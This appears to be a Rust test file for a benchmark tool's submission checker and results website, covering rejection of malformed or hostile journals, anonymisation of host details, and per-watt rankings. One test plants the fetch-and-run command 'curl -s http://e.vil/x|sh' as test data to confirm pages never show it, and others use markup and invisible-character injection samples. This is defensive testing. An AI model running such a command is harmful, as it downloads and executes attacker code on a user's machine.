//! What others submit, and what says whose machine it was.

use serde_json::{Value, json};

use super::{files, site};
use testing::{Place, stderr, stdout};

/// A whole recorded run, line by line.
fn recorded() -> Vec<Value> {
    let text = std::fs::read_to_string(testing::recorded("years").join("run.jsonl")).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn text(lines: &[Value]) -> String {
    lines.iter().map(|line| line.to_string() + "\n").collect()
}

/// The place of the first line of a kind.
fn first(lines: &[Value], kind: &str) -> usize {
    lines.iter().position(|line| line["type"] == kind).unwrap()
}

/// What is done to a good journal.
type Spoil<'a> = &'a dyn Fn(&mut Vec<Value>);

/// Checks a journal; returns the exit status and what was said.
fn checked(place: &Place, journal: &str) -> (i32, String) {
    let path = place.root.path().join("submitted.jsonl");
    std::fs::write(&path, journal).unwrap();
    let output = place.unixmark("site --check").arg(path).output().unwrap();
    (output.status.code().unwrap(), stdout(&output) + &stderr(&output))
}

#[test]
fn a_submitted_journal_is_whole_true_and_only_text() {
    let place = Place::new();
    let good = recorded();
    let (status, said) = checked(&place, &text(&good));
    assert!(status == 0 && said.ends_with("submitted.jsonl: fine\n"), "{said}");
    let (trial, cell) = (first(&good, "trial"), first(&good, "cell"));
    let spoiled = |spoil: Spoil| {
        let mut lines = good.clone();
        spoil(&mut lines);
        checked(&place, &text(&lines))
    };
    let cases: [(Spoil, &str); 9] = [
        (&|lines| drop(lines.pop()), "its last line is missing"),
        (&|lines| lines[cell]["scale"] = json!(2.0), "is not scored as in the catalogue"),
        (&|lines| lines[cell]["test"] = json!("fastest"), "the catalogue has no test 'fastest'"),
        (
            &|lines| lines[0]["comment"] = json!("<img src=x>"),
            "line 1: a text that could be markup: '<img src=x>'",
        ),
        (
            &|lines| lines[0]["host"] = json!("a\u{202e}b"),
            "line 1: a text with invisible characters",
        ),
        (&|lines| lines[0]["comment"] = json!("x".repeat(4001)), "more than 4000 characters"),
        (&|lines| lines.insert(0, json!("a banner")), "line 1 is not part of a journal"),
        (
            &|lines| lines[trial]["copies"][0]["slices"][0] = json!([9, 5, 1]),
            "overlap or run backwards",
        ),
        (&|lines| lines[trial]["copies"] = json!([]), "it has 0 of"),
    ];
    for (spoil, complaint) in cases {
        let (status, said) = spoiled(spoil);
        assert!(status == 1 && said.contains(complaint), "{complaint}: {said}");
    }
    let long = text(&good) + &"\n".repeat(64 << 20);
    assert!(checked(&place, &long).1.contains("it has more than 64 MiB"));
    let wrong = |lines: &mut Vec<Value>| {
        let has_check = |line: &&mut Value| !line["copies"][0]["checks"].is_null();
        let checks = &mut lines.iter_mut().find(has_check).unwrap()["copies"][0]["checks"];
        checks.as_object_mut().unwrap().values_mut().for_each(|value| *value = json!(-1.5));
    };
    let (status, said) = spoiled(&wrong);
    assert!(status == 1 && said.contains("its check value '"), "{said}");
}

/// A command of the submitter's would run as whoever copies it.
#[test]
fn what_a_page_offers_to_copy_runs_nothing_of_the_submitters() {
    let place = Place::new();
    let folder = place.root.path().join("runs");
    std::fs::create_dir(&folder).unwrap();
    let mut lines = recorded();
    lines[0]["arguments"] = json!([
        "run",
        "--meter",
        "curl -s http://e.vil/x|sh",
        "--program=/tmp/evil",
        "-c",
        "1,2",
        "index"
    ]);
    std::fs::write(folder.join("one.jsonl"), text(&lines)).unwrap();
    assert_eq!(checked(&place, &text(&lines)).0, 0);
    let (www, ..) = site(&place, &folder, "www", "");
    for (name, bytes) in files(&www)
        .into_iter()
        .filter(|(name, _)| name.extension().is_some_and(|end| end == "html"))
    {
        let page = testing::page::text(&String::from_utf8(bytes).unwrap());
        assert!(!page.contains("e.vil") && !page.contains("/tmp/evil"), "{}", name.display());
        if name.starts_with("r") {
            assert!(page.contains("unixmark run -c 1,2 index"), "{page}");
            assert!(
                page.contains("--meter and --program: what is not a name or a number"),
                "{page}"
            );
        }
    }
}

#[test]
fn an_anonymous_site_names_nobody() {
    let place = Place::new();
    let folder = place.root.path().join("runs");
    std::fs::create_dir(&folder).unwrap();
    let secrets =
        ["hushhost", "mallory", "bluebird", "10.20.30.40", "52:54:00:ab:cd:ef", "SN12345678"];
    let mut lines = recorded();
    lines[0]["host"] = json!("hushhost.example.org");
    lines[0]["name"] = json!("hushhost.example.org-2026-11-21-01");
    lines[0]["comment"] = json!("bluebird's own");
    lines[0]["arguments"] = json!(["run", "index", "--dir", "/home/mallory/x"]);
    let trial = first(&lines, "trial");
    lines[trial]["copies"][0]["notes"] =
        json!(["served by 10.20.30.40 and hushhost (52:54:00:ab:cd:ef)"]);
    let fact = |name: &str, value: &str| json!({"type": "fact", "name": name, "label": name, "group": "System", "value": value});
    lines.insert(1, fact("system.user", "mallory"));
    lines.insert(1, fact("system.serial", "SN12345678"));
    lines.insert(1, fact("storage.model", "the disk of mallory"));
    std::fs::write(folder.join("one.jsonl"), text(&lines)).unwrap();
    let (www, status, said) = site(&place, &folder, "www", "--anonymous");
    assert!(status == 0 && said.contains("hosts ") && said.contains("comments 1 time,"), "{said}");
    for (name, bytes) in files(&www) {
        let content = String::from_utf8(bytes).unwrap();
        let named = secrets.iter().find(|secret| {
            content.contains(**secret) || name.display().to_string().contains(**secret)
        });
        assert_eq!(named, None, "{}", name.display());
    }
    // The figures are the same.
    let (open, ..) = site(&place, &folder, "open", "");
    let values = |www: &std::path::Path| {
        let csv = std::fs::read_to_string(www.join("runs.csv")).unwrap();
        csv.lines()
            .map(|line| line.split(',').skip(5).collect::<Vec<_>>().join(","))
            .collect::<Vec<String>>()
    };
    assert_eq!(values(&www), values(&open));
    let again = site(&place, &folder, "www", "--anonymous").2;
    assert!(again.contains("0 of them new"), "the same host has the same alias: {again}");
}

/// Counters and a wall socket do not see the same: each has a ranking of its own.
#[test]
fn the_index_per_watt_is_of_what_was_measured() {
    let place = Place::new();
    let folder = super::six(&place);
    let with = |number: usize, source: &str, watts: f64| {
        let path = folder.join(format!("{:.2}{number}.jsonl", crate::corpus::GCC));
        let journal = std::fs::read_to_string(&path).unwrap();
        let mut lines: Vec<Value> =
            journal.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        for trial in lines.iter_mut().filter(|line| line["type"] == "trial") {
            trial["energy"] = json!({"joules": watts / 4.0, "seconds": 0.25});
        }
        let fact = json!({"type": "fact", "name": "run.energy", "label": "Energy", "group": "Run", "value": source});
        lines.insert(1, fact);
        std::fs::write(&path, text(&lines)).unwrap();
    };
    with(0, "powercap: package-0", 8.0);
    with(1, "meter", 50.0);
    let (www, status, said) = site(&place, &folder, "www", "");
    assert_eq!(status, 0, "{said}");
    let csv = std::fs::read_to_string(www.join("runs.csv")).unwrap();
    let value = |host: &str, measure: &str| {
        let fits = |line: &&str| {
            line.split(',').nth(2) == Some(host) && line.split(',').nth(5) == Some(measure)
        };
        csv.lines().find(fits).map(|line| line.split(',').nth(8).unwrap().parse::<f64>().unwrap())
    };
    for (host, measure, watts) in [("a", "powercap", 8.0), ("b", "meter", 50.0)] {
        let index = value(host, "index.system").unwrap();
        let per_watt = value(host, &format!("index.system per watt by {measure}")).unwrap();
        assert!((per_watt * watts / index - 1.0).abs() < 1e-4, "{host}: {per_watt}");
    }
    assert_eq!(value("a", "index.system per watt by meter"), None);
    let offers = |bytes: &Vec<u8>| {
        String::from_utf8_lossy(bytes).contains("System Benchmarks index per watt by powercap")
    };
    assert!(
        files(&www).iter().any(|(path, bytes)| path.ends_with("data/site.js") && offers(bytes)),
        "it is not offered"
    );
}
